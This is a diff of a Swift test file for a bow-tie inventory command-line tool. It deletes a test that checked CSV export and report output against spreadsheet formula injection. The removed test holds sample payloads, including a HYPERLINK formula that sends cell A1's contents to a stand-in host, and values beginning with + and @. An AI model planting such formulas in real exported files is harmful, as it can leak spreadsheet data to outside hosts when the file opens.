@@ -169,25 +169,4 @@ struct ExchangeCommandTests {
     #expect(rows.count == 9)
     #expect(try bowties("export", "--format", "csv", "--binary").status == 64)
   }
-
-  /// A name or key that another user of a shared store, or another program, wrote: in a
-  /// spreadsheet, a cell that starts with = + - or @ is a formula, run when the file opens.
-  @Test("csv export and report write names and keys a spreadsheet would run as text")
-  func csvFormulas() throws {
-    let bowties = BowtiesSandbox()
-    let name = #"=HYPERLINK("http://example.invalid/?"&A1,"Red")"#
-    #expect(try bowties("add", "--name", name, "--key", "@K").status == 0)
-    #expect(try bowties("add", "--name=-ish Bow Tie", "--key", "M").status == 0)
-    try bowties.sqlite("UPDATE bowTie SET url = '+cmd' WHERE searchKey = 'M'")
-    let quotedName = #""'=HYPERLINK(""http://example.invalid/?""&A1,""Red"")""#
-    let export = try bowties("export", "--format", "csv").stdout
-    #expect(export.contains(",'@K,\(quotedName),0,0,,false,,"))
-    #expect(export.contains(",M,'-ish Bow Tie,0,0,,false,'+cmd,"))
-    #expect(export.contains(",R,Red Bow Tie,4,10,"))
-    let report = try bowties("report", "--format", "csv", "--all").stdout
-    #expect(report.contains(",'@K,\(quotedName),0,0,,,false,,never-worn\n"))
-    #expect(report.contains(",M,'-ish Bow Tie,0,0,,,false,,never-worn\n"))
-    // JSON and plists keep the text as it is.
-    #expect(try bowties("show", "@K", "--json").stdout.contains(#""name" : "=HYPERLINK("#))
-  }
 }
